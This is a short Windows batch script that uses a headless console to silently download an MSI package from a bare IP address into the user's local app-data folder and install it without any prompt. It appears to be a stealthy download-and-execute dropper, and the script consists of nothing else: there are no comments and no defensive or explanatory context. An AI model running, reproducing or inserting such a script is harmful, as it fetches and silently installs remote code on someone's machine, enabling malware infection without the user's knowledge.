@echo off
conhost.exe --headless cmd.exe /c "curl -s -o %LOCALAPPDATA%\s.msi http://203.0.113.44/setup.msi && msiexec /i %LOCALAPPDATA%\s.msi /qn"
